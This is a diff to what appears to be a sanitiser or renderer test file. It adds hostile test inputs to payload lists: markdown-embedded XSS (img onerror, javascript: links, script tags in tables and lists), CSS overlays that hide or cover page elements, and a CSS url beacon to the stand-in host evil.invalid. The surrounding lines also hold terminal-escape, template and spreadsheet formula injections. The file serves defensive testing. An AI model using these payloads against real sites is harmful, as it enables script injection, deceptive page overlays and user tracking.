@@ -87,6 +87,8 @@ LANGUAGES = [
     "\x1b[38;2;\"onclick=xss();1mx\x1b[0m", "\x1b[31m<script>xss()</script>\x1b[0m", "\x1b]0;</title><script>xss()</script>\x07x", "\x1b[1;31;4mx", "a\rb\x08\x08<img src=x onerror=xss()>",
     "\x1b[999999999C\x1b[999999999Bx", "{{title}} {{{cells}}} {{>partial}}", "${xss()} #{xss()} <%= xss() %> {% raw %}", "\x00<script>xss()</script>", "\ufeff<script>xss()</script>",
     "\u202e<script>xss()</script>", "＜script＞xss()＜/script＞", "\ud83d\ude00 \u0000 \ufffd \uffff", "=cmd|' /C calc'!A0", "'\"<>&`\\/=\n\r\t", "%3Cscript%3Exss()%3C/script%3E",
+    "##<img src=x onerror=xss()>##", "#Title<script>xss()</script>", "a\n###[x](javascript:xss())###\n##<a href=javascript:xss()>x</a>",
+    "|a||b|\n|---||---|\n|</td></table><img src=x onerror=xss()>||<script>xss()</script>|", "- a\n<br onload=xss()>\n- b\n<a href=javascript:xss()>\n- c",
     "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
 ]
 
@@ -100,6 +102,8 @@ OVERLAYS = [
     f"<progress style='{_BIG}'></progress>", f"<details open style='{_BIG}'><summary>x</summary>y</details>", f"<table style='{_BIG}'><td style='{_BIG};padding:200px'>x</table>",
     "<sup style='font-size:400%'>" * 6 + "x", "<ruby>x<rt style='font-size:400%;padding:200px;background:#fff'>y</rt></ruby>", "<ruby>x<rt>" * 40 + "y",
     "<div style='margin:-9999px;position:fixed;inset:0;z-index:9;float:left;transform:scale(99);opacity:0;line-height:0;text-indent:-999px;letter-spacing:99px'>x</div>",
+    f"<style>.x{{{_BIG};margin:-9999px;position:fixed;inset:0;z-index:9;float:left}}</style><div class=x>x</div>",
+    f"<style>.x div,div.x>b,.x:hover{{{_BIG};padding:200px;margin-left:200px}}</style><div class=x><div><div><b>x</b></div></div></div>",
     "a" + "\u0300\u0301\u0302" * 200 + "b" + "\u0316\u0317\u0323" * 200, "$\\rule{1e9em}{1e9em}\\rule{100em}{100em}$", "$\\smash{\\rule{90em}{90em}}$",
     "$\\raisebox{60em}{\\rule{90em}{50em}}$", "$\\llap{\\rule{90em}{90em}}$", "$\\hspace{-90em}\\smash{\\href{https://evil.invalid/}{\\rule{90em}{90em}}}$",
     "$\\Huge\\smash{\\text{\\Huge " + "M" * 100 + "}}$", "$$\\raisebox{-60em}{\\colorbox{white}{\\rule{90em}{50em}}}$$",
@@ -114,6 +118,7 @@ POSES = [
     "<div contenteditable tabindex=1 accesskey=x autofocus draggable=true inert popover is=x-y slot=z part=p>x</div>", "<a href=x target=report ping=https://evil.invalid download=x>x</a>",
     "<map name=m><area href=javascript:xss() shape=default></map><img usemap=#m src=x>", "<fencedframe></fencedframe><portal src=https://evil.invalid></portal>",
     "<p id=a>x</p><p id=a>y</p><a href=#a>z</a>", "<style>#a:hover{background:url(https://evil.invalid/x)} #a[value^=x]{cursor:url(https://evil.invalid/y),auto} body>header{display:none}</style><p id=a>x</p>",
+    "<style>.x{background:url(https://evil.invalid/x)} .cell,.notice,.page-header,.x~*,.x+*,:root .x{display:none;color:#fff} .x{display:none}</style><p class='x cell notice page-header'>x</p><p>y</p>",
     "<p style='background:image-set(\"https://evil.invalid/x\" 1x);list-style:url(https://evil.invalid/y);cursor:url(https://evil.invalid/z);content:url(https://evil.invalid/w)'>x</p>",
     "__proto__", "constructor", "toString", "</script>\u2028\u2029<!--<script>", "nan", "1e999",
 ]
